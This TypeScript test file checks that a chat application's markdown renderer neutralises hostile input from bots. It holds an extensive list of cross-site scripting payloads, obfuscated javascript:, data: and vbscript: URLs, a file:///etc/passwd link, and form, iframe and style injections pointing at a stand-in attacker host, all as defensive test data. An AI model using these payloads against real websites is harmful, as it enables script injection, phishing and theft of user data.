import { expect } from '@open-wc/testing'
import { watchHarm } from '../testing/harm.ts'
import { harmBelow } from '../testing/harmless.ts'
import { told } from '../testing/told.ts'
import { elementsBelow, lettersBelow } from '../testing/tree.ts'

/** Markdown as bots may send it, drawn for both sides. What became of it lies in the last of these nodes. */
async function drawnFor(side: 'contact' | 'staff', attacks: readonly string[]) {
  const { element, rows } = await told(
    attacks.map((markdown) => ({ kind: 'markdown', markdown })),
    { side },
  )
  return { element, places: rows.map((row) => elementsBelow(row).find((each) => each.matches('.markdown'))!) }
}

/** Draws attacks, and fails when anything comes of them but what is on the list. Gives what became of each. */
async function harmless(attacks: readonly string[]): Promise<readonly Element[]> {
  const harm = watchHarm()
  let drawn: readonly Element[] = []
  for (const side of ['staff', 'contact'] as const) {
    const { places } = await drawnFor(side, attacks)
    for (const [at, place] of places.entries()) expect(harmBelow(place), attacks[at]).to.deep.equal([])
    drawn = places
  }
  expect(await harm.done()).to.deep.equal([])
  return drawn
}

/** That nothing was taken for an element: what was typed is what is read. */
const expectLetters = (places: readonly Element[], attacks: readonly string[]) => {
  for (const [at, place] of places.entries()) expect(lettersBelow(place).trim(), attacks[at]).to.equal(attacks[at])
}

const linksIn = (place: Element) =>
  elementsBelow(place).filter((element) => element.localName === 'a') as HTMLAnchorElement[]

const host = 'https://attacker.invalid'

/** Raw HTML, by the rule that says what must not come of it. Each is read as it was typed. */
const typed: Readonly<Record<string, readonly string[]>> = {
  '[ATK33] raw HTML, comments, CDATA and instructions': [
    '<script>__xss()</script>',
    '<b onclick="__xss()">bold</b>',
    'before <i onmouseover=__xss()>within</i> after',
    '<!-- comment -->',
    '<![CDATA[ data ]]>',
    '<?php echo 1 ?>',
    '<!DOCTYPE html>',
  ],
  '[ATK35] forms and their controls': [
    `<form action="${host}/"><input name="password"><button>OK</button></form>`,
    '<textarea autofocus onfocus=__xss()></textarea>',
    '<select><option>1</option></select>',
    `<button formaction="${host}/">OK</button>`,
    `<input type=image src="${host}/x.png">`,
    '<isindex action=javascript:__xss() type=image>',
  ],
  '[ATK36] frames, objects and media elements': [
    `<iframe src="${host}/"></iframe>`,
    '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
    `<object data="${host}/x.swf"></object>`,
    `<embed src="${host}/x.swf">`,
    `<portal src="${host}/"></portal>`,
    `<video src="${host}/x.mp4" autoplay onloadstart=__xss()></video>`,
    `<audio src="${host}/x.mp3" autoplay></audio>`,
    `<video><source src="${host}/x.mp4" onerror=__xss()><track src="${host}/x.vtt" default></video>`,
    `<img src="${host}/x.png" srcset="${host}/y.png 2x" onerror=__xss()>`,
    `<picture><source srcset="${host}/x.png"><img></picture>`,
  ],
  '[ATK37] SVG and MathML': [
    '<svg onload=__xss()></svg>',
    '<svg><a><animate attributeName=href values=javascript:__xss()></animate><text>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to=__xss()></set></svg>',
    `<svg><use href="${host}/x.svg#x"></use></svg>`,
    `<svg><image href="${host}/x.png"></image></svg>`,
    '<svg><foreignObject><iframe onload=__xss()></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
    '<math href="javascript:__xss()">x</math>',
  ],
  '[ATK38] templates, shadow roots, dialogs and popovers': [
    '<template><img src=x onerror=__xss()></template>',
    '<div><template shadowrootmode="open"><img src=x onerror=__xss()></template></div>',
    '<dialog open>Your password?</dialog>',
    '<div popover id="p">x</div>',
    '<select><button><selectedcontent></selectedcontent></button></select>',
    '<details open ontoggle=__xss()><summary>x</summary></details>',
  ],
  '[ATK41] what can be edited, is focused by itself or has an access key': [
    '<p contenteditable>x</p>',
    '<a href="https://travel.example/" autofocus onfocus=__xss()>x</a>',
    '<p accesskey="x" onclick=__xss()>x</p>',
    '<p tabindex="1" onfocus=__xss()>x</p>',
    '<p inputmode="text" draggable="true" enterkeyhint="send">x</p>',
  ],
  '[ATK39] [ATK40] names, classes, parts and roles': [
    '<p id="title" name="body">x</p>',
    '<p class="button primary" part="log" slot="start">x</p>',
    '<p is="x-y" role="alert" aria-label="System" aria-live="assertive">x</p>',
    '<img name="getElementById" id="cookie">',
  ],
}

describe('hostile markdown', () => {
  for (const [what, attacks] of Object.entries(typed))
    it(`${what}: are read as they were typed`, async () => {
      expectLetters(await harmless(attacks), attacks)
    })

  it('[ATK34] styles, links, metas and bases: are read as they were typed, and what is around stays as it was', async () => {
    const attacks = [
      '<style>*{display:none!important}</style>',
      `<style>@import "${host}/x.css";</style>`,
      `<link rel="stylesheet" href="${host}/x.css">`,
      `<link rel="prefetch" href="${host}/">`,
      `<meta http-equiv="refresh" content="0;url=${host}/">`,
      `<base href="${host}/">`,
      '<p style="position:fixed;inset:0;background:url(https://attacker.invalid/x.png)">x</p>',
      '<body background="https://attacker.invalid/x.png" bgcolor="red">',
    ]
    const look = (place: Element) => {
      const row = place.getRootNode() instanceof ShadowRoot ? (place.getRootNode() as ShadowRoot).host : place
      return [document.body, row, place].map((each) => {
        const { display, position, color, backgroundColor, backgroundImage, visibility } = getComputedStyle(each)
        return { display, position, color, backgroundColor, backgroundImage, visibility }
      })
    }
    const [plain] = await harmless(['Only words'])
    const before = look(plain!)
    const places = await harmless(attacks)
    for (const place of places) expect(look(place)).to.deep.equal(before)
    expectLetters(places, attacks)
    expect(new URL('x', document.baseURI).origin).to.equal(location.origin)
  })

  it('[ATK42] no element of ours is made, in whatever way it is written', async () => {
    let made = 0
    customElements.define(
      'parley-trap',
      class extends HTMLElement {
        constructor() {
          super()
          made += 1
        }
      },
    )
    const attacks = [
      '<parley-trap></parley-trap>',
      '<parley-picture picture="x"></parley-picture>',
      '<p is="parley-trap">x</p>',
      '- <parley-trap>',
      '| <parley-trap> |\n| --- |\n| <parley-trap> |',
      '[<parley-trap>](https://travel.example/)',
    ]
    const places = await harmless(attacks)
    for (const [at, place] of places.entries()) {
      expect(
        elementsBelow(place).filter(({ localName }) => localName.startsWith('parley-')),
        attacks[at],
      ).to.have.length(0)
      expect(lettersBelow(place)).to.contain(attacks[at]!.match(/<[^>]*>/)![0])
    }
    expect(made).to.equal(0)
  })

  it('[ATK43] a link has no more than it should, and always the same: not what was written beside it', async () => {
    const attacks = [
      `<a href="${host}/" target="_top" ping="${host}/p" download attributionsrc="${host}/a" rel="opener">x</a>`,
      '[x](https://travel.example/ "t\\" target=\\"_top\\" ping=\\"/p")',
      '[x](https://travel.example/){target=_top download}',
      '<https://travel.example/>',
    ]
    const [raw, ...links] = await harmless(attacks)
    expect(linksIn(raw!)).to.have.length(0)
    for (const link of links.flatMap(linksIn)) {
      expect(link.getAttributeNames().sort()).to.deep.equal(['href', 'referrerpolicy', 'rel', 'target'])
      expect([link.target, link.rel, link.referrerPolicy]).to.deep.equal([
        '_blank',
        'noopener noreferrer nofollow ugc',
        'no-referrer',
      ])
    }
    expect(links.flatMap(linksIn)).to.have.length(3)
  })

  it('[ATK44] [ATK45] a label that is another address, or cannot be seen, does not hide the real one', async () => {
    const labels = [
      'https://bank.example/',
      'bank.example',
      '',
      ' ',
      '\u200b',
      '\u2060\u00ad',
      '![](x)',
      '<b></b>',
      '\u202e',
    ]
    const places = await harmless(labels.map((label) => `[${label}](${host}/login)`))
    for (const [at, place] of places.entries()) {
      const [link] = linksIn(place)
      // Where there is no link, nothing can be clicked.
      if (link) expect(lettersBelow(link), labels[at]).to.contain(`${host}/login`)
    }
    expect(places.flatMap(linksIn).length).to.be.above(5)
  })

  it('[ATK27] [ATK28] [ATK29] whatever leads elsewhere than to a page is no link', async () => {
    const addresses = [
      'javascript:__xss()',
      'JaVaScRiPt:__xss()',
      'java&#x09;script:__xss()',
      'java&NewLine;script:__xss()',
      'javascript&colon;__xss()',
      '&#106;avascript:__xss()',
      '\x01javascript:__xss()',
      'javascript://travel.example/%0a__xss()',
      'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
      'blob:https://travel.example/1',
      'intent://x#Intent;end',
      'ms-word:ofe|u|https://attacker.invalid',
      'mailto:a@b.example',
      'tel:+1900',
      '//attacker.invalid/',
      '\\\\\\\\attacker.invalid',
      '/\\\\attacker.invalid',
      '/admin',
      '#x',
      '?q',
      'https://travel.example@attacker.invalid/',
    ]
    const attacks = addresses.flatMap((address) => [
      `[x](${address})`,
      `[x](<${address}>)`,
      `<${address}>`,
      `[x][y]\n\n[y]: ${address}`,
      `![x](${address})`,
      `[![x](${address})](${address})`,
    ])
    const places = await harmless(attacks)
    for (const [at, place] of places.entries()) expect(linksIn(place), attacks[at]).to.have.length(0)
  })

  it('[ATK30] [ATK31] [ATK32] pictures, titles and info strings bring nothing with them and ask for nothing', async () => {
    await harmless([
      `![x](${host}/x.png)`,
      `![x][y]\n\n[y]: ${host}/x.png "t"`,
      `![" onerror="__xss()](${host}/x.png "' onload='__xss()")`,
      `![x](/travel/"onerror="__xss().png)`,
      `[x](${host}/ "\\" onmouseover=\\"__xss()")`,
      `[x](${host}/"onmouseover="__xss())`,
      '```js" onload="__xss()\ncode\n```',
      '```"><svg onload=__xss()>\ncode\n```',
      '~~~ <img src=x onerror=__xss()>\ncode\n~~~',
      '`<img src=x onerror=__xss()>`',
      '    <img src=x onerror=__xss()>',
    ])
  })
})
